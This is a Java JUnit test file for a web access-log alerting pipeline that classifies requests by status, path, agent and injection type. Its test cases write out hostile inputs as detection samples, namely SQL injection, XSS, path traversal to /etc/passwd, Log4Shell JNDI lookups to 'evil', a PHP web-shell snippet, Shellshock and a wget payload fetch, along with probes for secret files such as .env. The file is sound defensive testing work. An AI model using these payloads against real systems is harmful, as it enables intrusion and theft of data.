package dev.millrace.pipelines.weblogalerts;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.not;

import dev.millrace.transforms.accesslog.AccessLogEntry;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.joda.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RequestTraitsTest {
  private static final Set<RequestTrait> INJECTIONS =
      EnumSet.of(
          RequestTrait.WEB_SHELL,
          RequestTrait.SQL,
          RequestTrait.MARKUP,
          RequestTrait.TRAVERSAL,
          RequestTrait.CODE,
          RequestTrait.COMMAND,
          RequestTrait.HEADER_INJECTION);

  @Test
  void findsNothingSpecialInAnOrdinaryPage() {
    assertThat(
        traits(Requests.get("/articles/7?page=2")),
        is(
            EnumSet.of(
                RequestTrait.SUCCESS,
                RequestTrait.GET,
                RequestTrait.PAGE,
                RequestTrait.QUERY,
                RequestTrait.BROWSER_AGENT)));
  }

  @ParameterizedTest
  @CsvSource({
    "200,SUCCESS", "206,SUCCESS", "301,REDIRECT", "304,NOT_MODIFIED", "401,UNAUTHORIZED",
    "403,DENIED", "407,UNAUTHORIZED", "404,NOT_FOUND", "410,NOT_FOUND", "400,OTHER_CLIENT_ERROR",
    "499,OTHER_CLIENT_ERROR", "500,SERVER_ERROR", "503,SERVER_ERROR"
  })
  void sortsStatuses(int status, RequestTrait expected) {
    assertThat(traits(Requests.get("/").status(status)), hasItem(expected));
  }

  @ParameterizedTest
  @CsvSource({
    "GET,GET",
    "HEAD,HEAD",
    "POST,POST",
    "PUT,INTERFACE_METHOD",
    "OPTIONS,INTERFACE_METHOD",
    "TRACE,RARE_METHOD",
    "get,RARE_METHOD"
  })
  void sortsMethods(String method, RequestTrait expected) {
    assertThat(traits(Requests.get("/").method(method)), hasItem(expected));
  }

  @ParameterizedTest
  @CsvSource({
    "/a.css,ASSET", "/a/B.PNG?v=3,ASSET", "/a.css/b,PAGE", "/index.php,SCRIPT",
    "/x/y.aspx?z=1,SCRIPT", "/page.html,PAGE", "/,PAGE", "/.css/,PAGE"
  })
  void sortsPaths(String target, RequestTrait expected) {
    assertThat(traits(Requests.get(target)), hasItem(expected));
  }

  @Test
  void takesNoExtensionForAnotherThatHasAZeroByteBeforeIt() {
    assertThat(traits(Requests.get("/a.\0css")), not(hasItem(RequestTrait.ASSET)));
  }

  @ParameterizedTest
  @CsvSource({
    "/login,LOGIN_PATH",
    "/wp-login.php?redirect=x,LOGIN_PATH",
    "/Account/SignIn,LOGIN_PATH",
    "/.git/config,SECRET_PATH",
    "/%2eenv,SECRET_PATH",
    "/a/.ENV.bak,SECRET_PATH",
    "/vendor/phpunit/src/Util/PHP/eval-stdin.php,SECRET_PATH",
    "/HNAP1/,SECRET_PATH",
    "/admin/,SENSITIVE_PATH",
    "/site.tar.gz,SENSITIVE_PATH",
    "/logs/,SENSITIVE_PATH",
    "/?author=3,FINGERPRINT",
    "/wp-content/plugins/akismet/readme.txt,FINGERPRINT",
    "/robots.txt,USUAL_PATH",
    "/.well-known/acme-challenge/x,USUAL_PATH"
  })
  void knowsPlacesThatAreLookedFor(String target, RequestTrait expected) {
    assertThat(traits(Requests.get(target)), hasItem(expected));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/files/logstash/logstash-1.3.2.jar",
        "/blog/tags/shell?page=1",
        "/old-town",
        "/readme.txt",
        "/presentations/2015/",
        "/articles/testing-in-production",
        "/news?back=/admin"
      })
  void takesNoOrdinaryPathForOneThatIsLookedFor(String target) {
    Set<RequestTrait> found = traits(Requests.get(target));
    assertThat(found, not(hasItem(RequestTrait.SECRET_PATH)));
    assertThat(found, not(hasItem(RequestTrait.SENSITIVE_PATH)));
    assertThat(found, not(hasItem(RequestTrait.FINGERPRINT)));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "/p?id=1%27%20UNION%20%20SELECT%201,2| SQL",
        "/p?id=1'+or+'1'='1| SQL",
        "/p?id=1%2527%2520or%25201=1| SQL",
        "/p?id=1/**/and/**/sleep(5)| SQL",
        "/p?q=%3Cscript%3Ealert(1)%3C/script%3E| MARKUP",
        "/p?q=\"><img+src=x+onerror=alert(1)>| MARKUP",
        "/../../etc/passwd| TRAVERSAL",
        "/..%252f..%252fetc/passwd| TRAVERSAL",
        "/p?page=php://filter/resource=index| TRAVERSAL",
        "/p?file=a.txt%00.png| TRAVERSAL",
        "/p?x=${jndi:ldap://evil/a}| CODE",
        "/p?x=<?php+system($_GET[0]);?>| CODE",
        "/p?host=127.0.0.1;+cat+/etc/hosts| COMMAND",
        "/p?host=$(id)| COMMAND",
        "/p?x=%7Cid| COMMAND",
        "/wp-content/uploads/2024/03/x.php| WEB_SHELL",
        "/shell.jsp| WEB_SHELL",
        "/page?cmd=id| WEB_SHELL"
      })
  void findsInjectionHoweverItIsWritten(String target, RequestTrait expected) {
    assertThat(traits(Requests.get(target.strip())), hasItem(expected));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/search?q=o%27reilly+books", "/wais.pl?today%27s+and+landing", "/?C=D;O=A",
        "/doc/java/lang/ClassLoader.html", "/p?return=%2Fa%2Fb%3Fc%3Dd%26e", "/a?sort=id&order=by",
        "/union-select-committee", "/images/photo.jpg?size=1|2",
            "/list?request=%7B%22limit%22%3A1%7D",
        "/p?text=cat+and+ls+and+id", "/uploads/photo.png", "/p?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIi"
      })
  void takesNoOrdinaryTargetForInjection(String target) {
    assertThat(injections(Requests.get(target)), is(Set.of()));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"[\"ls\", \"-lah\"]", "id", "[\"id\"]", "whoami && uname -a", "cat /etc/passwd"})
  void findsCommandsInBase64(String command) {
    String encoded =
        Base64.getEncoder().encodeToString(("  " + command).getBytes(StandardCharsets.UTF_8));

    assertThat(
        traits(Requests.get("/a.php?z=1&wp_meta=" + encoded.replace("=", "%3D"))),
        hasItem(RequestTrait.COMMAND));
  }

  @ParameterizedTest
  @CsvSource({
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0,BROWSER_AGENT",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html),CRAWLER_AGENT",
    "curl/8.4.0,TOOL_AGENT",
    "Mozilla/5.00 (Nikto/2.1.6),SCANNER_AGENT",
    "'',NO_AGENT"
  })
  void sortsAgents(String agent, RequestTrait expected) {
    assertThat(traits(Requests.get("/").agent(agent)), hasItem(expected));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "() { :; }; /bin/bash -c 'id'",
        "${${lower:j}ndi:ldap://evil/x}",
        "';echo;cd /tmp; wget 192.0.2.9/x"
      })
  void findsInjectionInHeaders(String header) {
    assertThat(injections(Requests.get("/").agent(header)), hasItem(RequestTrait.HEADER_INJECTION));
    assertThat(
        injections(Requests.get("/").referrer(header)), hasItem(RequestTrait.HEADER_INJECTION));
  }

  @Test
  void doesNotTakeASearchForInjectionInTheReferrer() {
    assertThat(
        injections(
            Requests.get("/").referrer("https://www.google.com/search?q=powershell;+id+order+by")),
        is(Set.of()));
  }

  @ParameterizedTest
  @CsvSource(
      nullValues = "-",
      value = {
        "-,-,-,'\u0016\u0003\u0001',MALFORMED",
        "-,-,-,SSH-2.0-Go,MALFORMED",
        "OPTIONS,/,RTSP/1.0,OPTIONS / RTSP/1.0,MALFORMED",
        "GET,index.html,HTTP/1.1,GET index.html HTTP/1.1,MALFORMED",
        "GET,http://example.com/,HTTP/1.1,GET http://example.com/ HTTP/1.1,PROXY_REQUEST",
        "CONNECT,example.com:443,HTTP/1.1,CONNECT example.com:443 HTTP/1.1,PROXY_REQUEST",
        "-,-,-,-,EMPTY_REQUEST"
      })
  void tellsRequestsThatAreNotForThisServer(
      String method, String target, String protocol, String request, RequestTrait expected) {
    Set<RequestTrait> found =
        traits(
            new AccessLogEntry(
                "192.0.2.1",
                "",
                "",
                Instant.EPOCH,
                orEmpty(method),
                orEmpty(target),
                orEmpty(protocol),
                orEmpty(request),
                400,
                0,
                "",
                ""));

    assertThat(found, hasItem(expected));
    assertThat(found.contains(RequestTrait.PAGE), is(expected == RequestTrait.PROXY_REQUEST));
  }

  @ParameterizedTest
  @CsvSource({
    "POST,/login,200,GUESS LONE_GUESS",
    "POST,/api/login,200,GUESS LONE_GUESS",
    "POST,/contact,403,GUESS LONE_GUESS LONE_POST",
    "POST,/contact,200,LONE_POST",
    "POST,/api/events,403,''",
    "GET,/wp-admin/,401,GUESS LONE_GUESS",
    "GET,/login,200,''"
  })
  void tellsGuessesThatComeFromNoPage(String method, String target, int status, String expected) {
    Requests request = Requests.get(target).method(method).status(status);

    assertThat(entries(request.referrer("")), is(expected));
    assertThat(entries(request), is(expected.replaceAll(" ?LONE_\\w+", "")));
  }

  private static String entries(Requests request) {
    Set<RequestTrait> found = traits(request);
    found.retainAll(
        EnumSet.of(RequestTrait.GUESS, RequestTrait.LONE_GUESS, RequestTrait.LONE_POST));
    return found.stream().map(RequestTrait::name).collect(Collectors.joining(" "));
  }

  @Test
  void countsNoMissedIconAsAPageThatIsNotThere() {
    assertThat(traits(Requests.get("/favicon.ico").status(404)), not(hasItem(RequestTrait.MISSED)));
    assertThat(traits(Requests.get("/robots.txt").status(404)), not(hasItem(RequestTrait.MISSED)));
    assertThat(traits(Requests.get("/nothing").status(404)), hasItem(RequestTrait.MISSED));
  }

  private static String orEmpty(String text) {
    return text == null ? "" : text;
  }

  private static Set<RequestTrait> injections(Requests request) {
    Set<RequestTrait> found = traits(request);
    found.retainAll(INJECTIONS);
    return found;
  }

  private static Set<RequestTrait> traits(Requests request) {
    return traits(request.entry());
  }

  private static Set<RequestTrait> traits(AccessLogEntry entry) {
    ClientActivity activity = Requests.activity(List.of(entry));
    return Arrays.stream(RequestTrait.values())
        .filter(trait -> activity.count(trait) > 0)
        .collect(Collectors.toCollection(() -> EnumSet.noneOf(RequestTrait.class)));
  }
}
